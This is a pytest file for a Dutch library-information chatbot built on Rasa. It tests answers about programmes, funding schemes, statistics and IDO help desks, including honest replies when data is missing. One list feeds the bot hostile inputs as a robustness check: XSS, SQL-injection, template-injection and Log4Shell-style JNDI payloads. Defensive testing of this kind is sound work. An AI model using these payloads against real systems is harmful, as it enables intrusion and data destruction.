"""Each custom action against a real KB, with rasa_sdk's dispatcher and tracker."""
from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import List, Optional, Sequence, Tuple
from urllib.parse import urlparse

import pytest
from rasa_sdk import Tracker
from rasa_sdk.events import SlotSet
from rasa_sdk.executor import CollectingDispatcher

import knowledge.query
from actions import answers, examples, fallback, ido, programmes, schemes, statistics


@pytest.fixture(autouse=True)
def use_test_kb(kb, monkeypatch, tmp_path):
    monkeypatch.setattr(knowledge.query, "_default", kb)
    from actions import base
    from bot.feedback import FeedbackStore

    store = FeedbackStore(f"sqlite:///{tmp_path / 'feedback.sqlite3'}")
    monkeypatch.setattr(base, "_feedback_store", lambda: store)
    return store


def tracker(text: str, intent: str, entities: Sequence[Tuple[str, str]] = (), slots: Optional[dict] = None) -> Tracker:
    latest = {"text": text, "intent": {"name": intent, "confidence": 0.99},
              "entities": [{"entity": e, "value": v} for e, v in entities]}
    return Tracker("test", slots or {}, latest, [], False, None, {}, "action_listen")


def run(action, text: str, intent: str, entities=(), slots=None):
    dispatcher = CollectingDispatcher()
    events = action.run(dispatcher, tracker(text, intent, entities, slots), {})
    return dispatcher.messages, events


def only_text(messages: List[dict]) -> str:
    assert len(messages) == 1, messages
    return messages[0].get("text") or messages[0].get("response")


def slot(events, name):
    return next((e["value"] for e in events if e.get("event") == "slot" and e.get("name") == name), None)


def utterance(text: str, buttons: Sequence[dict] = ()) -> dict:
    """One message as rasa-sdk's CollectingDispatcher keeps it: every key, as the action server sends it to Rasa."""
    return {"text": text, "buttons": list(buttons), "elements": [], "custom": {}, "template": None, "response": None,
            "image": None, "attachment": None}


IDO_LOCATIONS = Path(__file__).resolve().parents[1] / "knowledge" / "data" / "ido_locations.csv"


def ido_record(place: str) -> dict:
    """The row of knowledge/data/ido_locations.csv for the desk in `place`."""
    with IDO_LOCATIONS.open(encoding="utf-8", newline="") as f:
        return next(row for row in csv.DictReader(f) if row["place"] == place)


# -- programmes and other named records ------------------------------------------------------
@pytest.mark.parametrize("entity, value, expected_id", [
    ("programme", "boekstart", "boekstart"),
    ("programme", "boekstrat", "boekstart"),
    ("programme", "walk en talk", "walk-and-talk"),
    ("scheme", "Jeugdpakket", "jeugdpakket"),
    ("organisation", "manifestgroep", "manifestgroep"),
    ("example", "badeendjes", "voorbeeld-venlo"),
    ("topic", "bibliotheekconvenant", "bibliotheekconvenant"),
])
def test_what_is_answers_from_the_record(kb, entity, value, expected_id):
    messages, events = run(programmes.ActionAnswerWhatIs(), f"wat is {value}", "ask_what_is", [(entity, value)])
    text = only_text(messages)
    kind, ref = slot(events, "subject").split(":")
    assert ref == expected_id
    record = kb.record(kind, ref)
    assert answers.first_sentences(record.summary, 1)[:30] in text
    assert "Bron:" in text


def test_what_is_finds_a_name_the_nlu_missed(kb):
    messages, events = run(programmes.ActionAnswerWhatIs(), "vertel eens over digisterkr", "ask_what_is")
    assert slot(events, "subject") == "programmes:digisterker"


def test_unknown_name_is_said_plainly_with_close_matches(kb):
    messages, events = run(programmes.ActionAnswerWhatIs(), "wat is taalmaatje", "ask_what_is", [("programme", "taalmaatje")])
    text = only_text(messages)
    assert "'taalmaatje' ken ik niet" in text
    assert slot(events, "subject") is None


def test_follow_up_uses_the_subject_of_the_conversation(kb):
    messages, _ = run(programmes.ActionAnswerCost(), "wat kost het", "ask_cost", slots={"subject": "programmes:walk-and-talk"})
    assert "Walk & Talk: gratis." in only_text(messages)


def test_cost_the_kb_does_not_know_is_not_invented(kb):
    messages, _ = run(programmes.ActionAnswerCost(), "wat kost het taalcafe", "ask_cost", [("programme", "taalcafe")])
    text = only_text(messages)
    assert "staat niet in mijn gegevens" in text and "€" not in text and not re.search(r"\d", text)


def test_nothing_named_and_no_context_asks_which(kb):
    messages, _ = run(programmes.ActionAnswerAudience(), "voor wie is het", "ask_audience")
    assert messages[0]["buttons"] and "Kies" in messages[0]["text"]


def test_list_programmes_for_a_group(kb):
    messages, _ = run(programmes.ActionListProgrammes(), "wat is er voor werkzoekenden", "list_programmes")
    assert "Walk & Talk" in only_text(messages)


# -- schemes: the context example --------------------------------------------------
def test_scheme_then_follow_up_on_the_channel(kb):
    _, events = run(programmes.ActionAnswerWhatIs(), "Wat is het Jeugdpakket?", "ask_what_is", [("scheme", "Jeugdpakket")])
    subject = slot(events, "subject")
    assert subject == "schemes:jeugdpakket"
    messages, _ = run(schemes.ActionAnswerSchemeAmount(), "hoeveel gaat via het gemeentefonds?", "ask_scheme_amount", slots={"subject": subject})
    text = only_text(messages)
    assert "40 miljoen euro via het gemeentefonds" in text and "58,5 miljoen euro" in text


def test_two_parts_of_a_scheme_asked_at_once_get_every_part(kb):
    messages, _ = run(schemes.ActionAnswerSchemeAmount(), "wat gaat er via het gemeentefonds en wat naar een gezonde leefstijl?",
                      "ask_scheme_amount", slots={"subject": "schemes:jeugdpakket"})
    text = only_text(messages)
    assert "40 miljoen euro via het gemeentefonds" in text and "4 miljoen euro" in text and "geen bedrag" not in text, text


def test_scheme_part_the_kb_does_not_have(kb):
    messages, _ = run(schemes.ActionAnswerSchemeAmount(), "hoeveel gaat via de provincie", "ask_scheme_amount", slots={"subject": "schemes:jeugdpakket"})
    text = only_text(messages)
    assert "geen bedrag" in text and "gemeentefonds" in text


@pytest.mark.parametrize("value, expected", [("npo", "2021-2022"), ("jeugd pakket", "voorjaar van 2021")])
def test_scheme_dates(kb, value, expected):
    messages, _ = run(schemes.ActionAnswerSchemeDates(), f"tot wanneer loopt {value}", "ask_scheme_dates", [("scheme", value)])
    assert expected in only_text(messages)


def test_list_schemes_names_all_three_with_amounts(kb):
    text = only_text(run(schemes.ActionListSchemes(), "welke regelingen zijn er", "list_schemes")[0])
    for amount in ("58,5 miljoen euro", "200 miljoen euro", "8,5 miljard euro"):
        assert amount in text


# -- figures --------------------------------------------------------------------------------
@pytest.mark.parametrize("question, expected", [
    ("hoeveel e-books", "28.000"),
    ("hoe vaak werd de bieb bezocht in 2019", "62,9 miljoen"),
    ("hoeveel leden hebben de bibliotheken", "3,6 miljoen"),
])
def test_figure(kb, question, expected):
    text = only_text(run(statistics.ActionAnswerFigure(), question, "ask_figure")[0])
    assert expected in text and "Bron:" in text


def test_handbook_figure_comes_with_the_newer_one(kb):
    text = only_text(run(statistics.ActionAnswerFigure(), "hoeveel IDO's zijn er", "ask_figure")[0])
    # The handbook counts IDOs (more than 100, March 2021); the newer count of IDOs is 466 (6 May 2022).
    # 673 (end of 2023) counts library locations with an IDO: another unit, so it is not offered as the newer IDO count.
    assert "2021" in text and "Nieuwer cijfer" in text and "466" in text and "673" not in text


@pytest.mark.parametrize("question", ["hoeveel boetes betaalden leden in 2019", "hoeveel vrijwilligers werken er in de bieb", "hoeveel koffie drinken bezoekers"])
def test_figure_the_kb_does_not_have(kb, question):
    messages, _ = run(statistics.ActionAnswerFigure(), question, "ask_figure")
    text = messages[0]["text"]
    assert "Dat cijfer heb ik niet" in text
    assert not re.search(r"\d", text)


def test_figure_for_a_place_says_it_is_national(kb):
    text = only_text(run(statistics.ActionAnswerFigure(), "hoeveel leden heeft de bieb in Ommen", "ask_figure")[0])
    assert "heel Nederland" in text and "3,6 miljoen" in text


def test_figure_button_payload(kb):
    text = only_text(run(statistics.ActionAnswerFigure(), "/ask_figure", "ask_figure", [("figure", "reisafstand-2019")])[0])
    assert "1,9 kilometer" in text


# -- IDO ------------------------------------------------------------------------------------
def test_ido_without_place_asks_for_it_then_the_place_answers(kb):
    messages, events = run(ido.ActionFindIdo(), "ik zoek een IDO", "find_ido")
    assert messages == [utterance("In welke plaats of gemeente woont u? Dan zoek ik het dichtstbijzijnde IDO.")]
    assert events == []

    # The record: Drachten (Smallingerland), branch "Bibliotheek Drachten", source waldnet.nl, December 2020.
    desk = ido_record("Drachten")
    assert (desk["place"], desk["branch"], desk["status"]) == ("Drachten", "Bibliotheek Drachten", "open")
    source = urlparse(desk["source_url"]).hostname.removeprefix("www.")
    messages, events = run(ido.ActionFindIdo(), "Drachten", "find_ido", [("place", "Drachten")])
    assert messages == [utterance(
        f"In {desk['place']} is een IDO: {desk['branch']}.\n"
        "Ook in de buurt: Marum (12 km) en Grootegast (16 km).\n"
        "Mijn lijst is niet compleet. Kijk ook op www.hetinformatiepunt.nl.\n"
        f"Bron: {source} ({desk['source_date'][:4]}).",
        [{"title": "Moet ik lid zijn?", "payload": "/ido_membership"},
         {"title": "Wanneer is het open?", "payload": '/ido_opening_hours{"place": "Drachten"}'}])]
    assert events == [SlotSet("place", "Drachten"), SlotSet("subject", "programmes:ido"), SlotSet("attribute", "desk")]


def test_ido_place_the_nlu_did_not_tag(kb):
    text = only_text(run(ido.ActionFindIdo(), "ik woon in Ommen", "find_ido")[0])
    assert "van Ommen" in text and "km" in text and "niet compleet" in text


def test_ido_unknown_place(kb):
    text = only_text(run(ido.ActionFindIdo(), "Atlantis", "find_ido", [("place", "Atlantis")])[0])
    assert "'Atlantis' ken ik niet" in text and "hetinformatiepunt.nl" in text


def test_a_contact_detail_the_data_lacks_is_said_not_to_be_known(kb):
    """No desk has a telephone number in the data: the answer says so first, and where to look."""
    text = only_text(run(ido.ActionFindIdo(), "wat is het telefoonnummer van het IDO in Drachten?", "find_ido",
                         [("place", "Drachten")])[0])
    assert text.startswith("Het telefoonnummer van het IDO in Drachten staat niet in mijn gegevens."), text
    assert "hetinformatiepunt.nl" in text and not re.search(r"\d{6,}", text)
    # 'aan het juiste adres' asks whether the desk helps, not where it is: the ordinary desk answer.
    text = only_text(run(ido.ActionFindIdo(), "ben ik in Drachten aan het juiste adres met mijn DigiD?", "find_ido",
                         [("place", "Drachten")])[0])
    assert text.startswith("In Drachten is een IDO"), text


def test_an_address_asked_for_is_the_address_the_source_gives(kb):
    desk = ido_record("Marum")
    assert desk["address"], "the data gives an address for Marum"
    text = only_text(run(ido.ActionFindIdo(), "op welk adres zit het IDO in Marum?", "find_ido", [("place", "Marum")])[0])
    assert text.startswith(f"Het adres van het IDO in Marum: {desk['address']}."), text


def test_discontinued_desk_is_never_offered(kb):
    text = only_text(run(ido.ActionFindIdo(), "ido in Sleeuwijk", "find_ido", [("place", "Sleeuwijk")])[0])
    first, *offers = text.split("\n")
    assert "Sleeuwijk" in first and "gestopt" in first and "2024" in first  # said plainly, with its date
    for gone in ("Sleeuwijk", "Dussen", "Rijswijk"):
        assert not any(gone in line for line in offers), offers


@pytest.mark.parametrize("question", ["kan mijn vader in dussen naar het informatiepunt?",
                                      "wanneer is het ido in dussen open"])
def test_a_stopped_desk_asked_by_name_is_said_to_have_stopped(kb, question):
    action = ido.ActionFindIdo() if "kan" in question else ido.ActionIdoOpeningHours()
    text = only_text(run(action, question, "find_ido")[0])
    assert "Dussen" in text.split("\n")[0] and "gestopt" in text
    assert not re.search(r"Dussen[^\n]{0,60}\d{1,2}[:.]\d{2}", text)  # no opening hours for it


def test_announced_desks_nearby_carry_the_caveat(kb):
    text = only_text(run(ido.ActionFindIdo(), "ido bij Molenlanden", "find_ido", [("place", "Giessenburg")])[0])
    nearby = next(line for line in text.split("\n") if line.startswith("Ook in de buurt"))
    for place in ("Bleskensgraaf", "Nieuw-Lekkerland"):
        if place in nearby:
            assert re.search(place + r" \(\d+ km, aangekondigd\)", nearby), nearby


def test_announced_desk_is_offered_with_a_caveat(kb):
    text = only_text(run(ido.ActionFindIdo(), "Bleskensgraaf", "find_ido", [("place", "Bleskensgraaf")])[0])
    assert "aangekondigd" in text and "niet bevestigd" in text


def test_opening_hours_are_dated(kb):
    text = only_text(run(ido.ActionIdoOpeningHours(), "wanneer is het ido open", "ido_opening_hours", slots={"place": "Kaatsheuvel"})[0])
    assert "14.00-17.00" in text and "2019" in text and "klopt" in text


def test_opening_hours_unknown(kb):
    text = only_text(run(ido.ActionIdoOpeningHours(), "openingstijden ido venlo", "ido_opening_hours", [("place", "Venlo")])[0])
    assert "weet ik niet" in text


def test_membership_has_its_own_source(kb):
    text = only_text(run(ido.ActionIdoMembership(), "moet ik lid zijn", "ido_membership")[0])
    assert "geen lid" in text and "websites van bibliotheken" in text


@pytest.mark.parametrize("question, service", [("ik kom niet in mijn digid", "DigiD"), ("hulp met mijn toeslagen", "toeslagen"), ("mijn uwv doet het niet", "het UWV")])
def test_government_problem_goes_to_the_ido(kb, question, service):
    messages, _ = run(ido.ActionGovernmentHelp(), question, "government_help")
    text = only_text(messages)
    assert f"Met vragen over {service}" in text and "Informatiepunt Digitale Overheid" in text


def test_government_problem_with_a_place_names_the_nearest_desk(kb):
    messages, events = run(ido.ActionGovernmentHelp(), "hulp met toeslagen in Sneek", "government_help", [("place", "Sneek")])
    assert "In Sneek is een IDO" in only_text(messages)
    assert slot(events, "place") == "Sneek"


def test_a_government_route_says_what_the_source_says_of_the_desk_that_was_asked_after(kb):
    """Drachten's note says bigger questions get a form hour by appointment: a question about a big form hears it."""
    note = ido_record("Drachten")["note"]
    assert "Formulierenspreekuur" in note
    text = only_text(run(ido.ActionGovernmentHelp(), "ik woon in Drachten en heb een groot formulier. helpen ze ook met grote vragen?",
                         "government_help", [("place", "Drachten")])[0])
    assert "In Drachten is een IDO" in text and "Formulierenspreekuur" in text, text


# -- examples, covenant, fallback, routes --------------------------------------------------
def test_examples_choice_and_one_example(kb):
    messages, _ = run(examples.ActionAnswerExample(), "geef een voorbeeld uit de praktijk", "ask_example")
    assert len(messages[0]["buttons"]) == 3
    text = only_text(run(examples.ActionAnswerExample(), "wat deed venlo met badeendjes", "ask_example", [("example", "badeendjes")])[0])
    assert "Venlo" in text


def test_covenant_names_the_three_tasks(kb):
    text = only_text(run(examples.ActionAnswerCovenant(), "wat zijn de drie opgaven", "ask_covenant")[0])
    for task in ("geletterdheid", "digitale inclusie", "leven lang ontwikkelen"):
        assert task in text


def test_fallback_offers_a_passage_or_matches_and_a_person(kb):
    messages, _ = run(fallback.ActionDefaultFallback(), "waarom moeten gemeenten juist nu investeren in bibliotheken", "nlu_fallback")
    text = messages[0]["text"]
    assert "medewerker" in text
    assert "handreiking" in text or ("niet zeker" in text and messages[0]["buttons"])


def test_fallback_on_noise_is_plain(kb):
    text = only_text(run(fallback.ActionDefaultFallback(), "asdf qwer", "nlu_fallback")[0])
    assert "niet zeker" in text and "medewerker" in text


def test_library_service_routes_to_the_local_library(kb):
    # The apology also names "uw bibliotheek": only the whole reply tells the route from a failure.
    messages, events = run(fallback.ActionLibraryService(), "ik ben mijn pasje kwijt", "library_service")
    assert messages == [utterance("Dat weet ik niet. Dat verschilt per bibliotheek.\n"
                                  "Vraag het aan de balie, bel uw bibliotheek of kijk op haar website.",
                                  [{"title": "Wat kun je wel?", "payload": "/bot_capabilities"}])]
    assert events == []


# -- faults and hostile input -------------------------------------------------------------
ACTIONS = [programmes.ActionAnswerWhatIs(), programmes.ActionAnswerAudience(), programmes.ActionAnswerCost(),
           programmes.ActionAnswerHowToJoin(), programmes.ActionListProgrammes(), schemes.ActionAnswerSchemeAmount(),
           schemes.ActionAnswerSchemeDates(), schemes.ActionListSchemes(), statistics.ActionAnswerFigure(),
           examples.ActionAnswerExample(), examples.ActionAnswerCovenant(), ido.ActionFindIdo(), ido.ActionIdoOpeningHours(),
           ido.ActionIdoMembership(), ido.ActionGovernmentHelp(), fallback.ActionDefaultFallback(), fallback.ActionLibraryService()]
HOSTILE = ["", "x" * 20_000, "\x00\x1b[2J", "<script>alert(1)</script>", "'; DROP TABLE programmes; --", "{{7*7}} ${jndi:ldap://x}", "🙂" * 50]


@pytest.mark.parametrize("action", ACTIONS, ids=lambda a: a.name())
@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_input_gets_a_normal_reply(kb, action, text):
    messages, _ = run(action, text, "nlu_fallback", [("programme", text), ("place", text), ("scheme", text)])
    assert messages
    for m in messages:
        body = m.get("text") or m.get("response") or ""
        assert "Traceback" not in body and "Sorry, er ging iets mis" not in body
        assert len(body) < 1200


@pytest.mark.parametrize("action", [a for a in ACTIONS if not isinstance(a, fallback.ActionLibraryService)], ids=lambda a: a.name())
def test_a_failing_kb_gives_an_apology_not_a_traceback(monkeypatch, action):
    class Broken:
        def __getattr__(self, name):
            raise RuntimeError("database is down")

    monkeypatch.setattr(knowledge.query, "_default", Broken())
    messages, events = run(action, "wat is boekstart", "ask_what_is", [("programme", "boekstart")])
    assert "Sorry, er ging iets mis" in only_text(messages)
    assert events == []


@pytest.mark.parametrize("text", ["mijn bsn is [BSN] en digid werkt niet", "bel mij op [TELEFOON]", "ik woon op [ADRES]"])
def test_a_masked_question_gets_the_answer_without_a_second_warning(kb, text):
    """The Rasa server masks the message and says the warning (bot/rasa_server.py); the action only answers."""
    messages, _ = run(ido.ActionGovernmentHelp(), text, "government_help")
    assert "Informatiepunt Digitale Overheid" in messages[0]["text"]
    assert all("persoonlijke gegevens" not in m["text"] for m in messages)


def test_no_warning_without_personal_data(kb):
    messages, _ = run(ido.ActionGovernmentHelp(), "mijn digid werkt niet", "government_help")
    assert all("persoonlijke gegevens" not in m["text"] for m in messages)


def test_unanswered_questions_are_kept_for_staff_masked(use_test_kb):
    run(fallback.ActionDefaultFallback(), "kan ik hier mijn fiets stallen, bel 06-12345678", "nlu_fallback")
    run(statistics.ActionAnswerFigure(), "hoeveel koffie drinken bezoekers", "ask_figure")
    questions = [e.question for e in use_test_kb.recent_fallbacks(10)]
    assert any("fiets" in q and "[TELEFOON]" in q and "12345678" not in q for q in questions)
    assert any("koffie" in q for q in questions)


def test_fallback_with_one_clear_name_explains_it(kb):
    messages, events = run(fallback.ActionDefaultFallback(), "Wat is het Jeugdpakket?", "nlu_fallback")
    assert "58,5 miljoen euro" in only_text(messages)
    assert slot(events, "subject") == "schemes:jeugdpakket"
